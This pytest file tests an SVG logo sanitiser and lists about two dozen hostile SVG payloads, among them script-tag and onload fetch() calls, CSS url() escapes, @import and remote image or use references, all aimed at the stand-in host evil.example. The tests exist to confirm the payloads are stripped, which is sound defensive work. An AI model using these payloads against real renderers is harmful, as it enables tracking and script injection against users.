"""SVG logos re-serialised from an allow-list: every way an SVG can fetch or run is gone, drawing
stays."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET

import pytest

from bot.model.svg_clean import SvgError, clean_stylesheet, clean_svg

OPEN = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'viewBox="0 0 8 8">'
)
DRAWING = b'<rect class="a" width="8" height="8" fill="#136"/>'

# Each one reached evil.example from a logo that the previous rules accepted, or would from a naive
# filter.
HOSTILE = {
    "xml-stylesheet css": b'<?xml-stylesheet type="text/css" href="https://evil.example/a.css"?>'
    + OPEN
    + DRAWING,
    "xml-stylesheet xsl": b'<?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?>'
    + OPEN
    + DRAWING,
    "css escape": OPEN + b"<style>.a{fill:u\\72l(https://evil.example/b)}</style>" + DRAWING,
    "escape in property": OPEN
    + b"<style>.a{f\\69ll:url(https://evil.example/b)}</style>"
    + DRAWING,
    "image-set": OPEN
    + b'<style>.a{mask:image-set("https://evil.example/c.png" 1x)}</style>'
    + DRAWING,
    "@import": OPEN + b"<style>@import url(https://evil.example/d.css);</style>" + DRAWING,
    "@import string": OPEN
    + b"<style>@import 'https://evil.example/d.css';.a{fill:red}</style>"
    + DRAWING,
    "@font-face": OPEN
    + b"<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>"
    + DRAWING,
    "url upper case": OPEN + b"<style>.a{fill:URL(https://evil.example/g)}</style>" + DRAWING,
    "url quoted spaced": OPEN
    + b"<style>.a{fill:url(  'https://evil.example/g'  )}</style>"
    + DRAWING,
    "url comment": OPEN + b"<style>.a{fill:u/**/rl(https://evil.example/g)}</style>" + DRAWING,
    "url in CDATA": OPEN
    + b"<style><![CDATA[.a{fill:url(https://evil.example/g)}]]></style>"
    + DRAWING,
    "url in attribute": OPEN
    + b'<rect width="8" height="8" fill="url(https://evil.example/h)"/></svg>',
    "url in style attribute": OPEN
    + b'<rect style="fill:url(//evil.example/h)" width="8" height="8"/></svg>',
    "cursor": OPEN
    + b'<rect style="cursor:url(https://evil.example/h),auto" width="8" height="8"/></svg>',
    "image": OPEN + b'<image href="https://evil.example/i.png" width="8" height="8"/>' + DRAWING,
    "image svg data": OPEN + b'<image href="data:image/svg+xml,%3Csvg/%3E"/>' + DRAWING,
    "feImage": OPEN
    + b'<filter id="f"><feImage href="https://evil.example/j.png"/></filter>'
    + DRAWING,
    "use remote": OPEN + b'<use xlink:href="https://evil.example/k.svg#a"/>' + DRAWING,
    "script": OPEN + b'<script>fetch("https://evil.example/l")</script>' + DRAWING,
    "handler": OPEN
    + b'<rect onload="fetch(\'https://evil.example/m\')" width="8" height="8"/></svg>',
    "foreignObject": OPEN + b'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" '
    b'src="https://evil.example/n"/></foreignObject>' + DRAWING,
    "animate href": OPEN
    + b'<use href="#x"><set attributeName="href" to="https://evil.example/o"/></use>'
    + DRAWING,
    "link": OPEN + b'<a href="https://evil.example/p">' + DRAWING + b"</a></svg>",
    "nested rule": OPEN
    + b"<style>@media all{.a{fill:url(https://evil.example/q)}}</style>"
    + DRAWING,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_that_can_fetch_survives(name: str) -> None:
    data = HOSTILE[name] if HOSTILE[name].endswith(b"</svg>") else HOSTILE[name] + b"</svg>"
    out = clean_svg(data)
    text = out.decode("utf-8")
    assert "evil" not in text and "<?" not in text and "\\" not in text and "@" not in text, text
    for url in re.findall(r"url\([^)]*\)", text, re.IGNORECASE):
        assert re.fullmatch(r"url\(#[\w.:-]+\)", url), url
    root = ET.fromstring(out)  # still one well-formed SVG, and the drawing is kept
    assert (
        root.tag == "{http://www.w3.org/2000/svg}svg"
        and root.find("{http://www.w3.org/2000/svg}rect") is not None
    )


def test_a_style_element_keeps_its_safe_rules() -> None:
    sheet = (
        ".st0{fill-rule:evenodd;fill:#FFFFFF;} .st1{fill:url(#SVGID_1_); "
        "behavior:url(x.htc)}\n@import 'x';"
    )
    assert (
        clean_stylesheet(sheet) == ".st0{fill-rule:evenodd;fill:#FFFFFF}\n.st1{fill:url(#SVGID_1_)}"
    )


def test_an_illustrator_export_keeps_its_drawing_and_loses_its_metadata() -> None:
    source = (
        b'<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 27.9.0 -->\n'
        b'<svg version="1.1" id="L" xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink" '
        b'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 496 '
        b'251.4" style="enable-background:new 0 0 496 251.4;" '
        b'xml:space="preserve"><sodipodi:namedview pagecolor="#ffffff"/><style '
        b'type="text/css">.st1{fill:url(#G);}</style><linearGradient id="G" '
        b'gradientTransform="matrix(400 0 0 41 19403 -12590)"><stop offset="0" '
        b'style="stop-color:#3F2870"/></linearGradient><path class="st1" d="M0 0h10v10z"/><image '
        b'width="1" height="1" xlink:href="data:image/png;base64,iVBORw0KGgo="/></svg>'
    )
    text = clean_svg(source).decode("utf-8")
    for kept in (
        'viewBox="0 0 496 251.4"',
        ".st1{fill:url(#G)}",
        'gradientTransform="matrix(400 0 0 41 19403',
        "stop-color:#3F2870",
        'class="st1"',
        'href="data:image/png;base64,iVBORw0KGgo="',
    ):
        assert kept in text, kept
    assert "sodipodi" not in text and "Illustrator" not in text and "namedview" not in text


@pytest.mark.parametrize(
    "data",
    [
        b'<!DOCTYPE svg [<!ENTITY x "y">]>' + OPEN + b"</svg>",
        b"<svg",
        b"\xff\xfe",
        b'<html xmlns="http://www.w3.org/1999/xhtml"/>',
    ],
)
def test_what_is_not_an_svg_document_is_refused(data: bytes) -> None:
    with pytest.raises(SvgError):
        clean_svg(data)
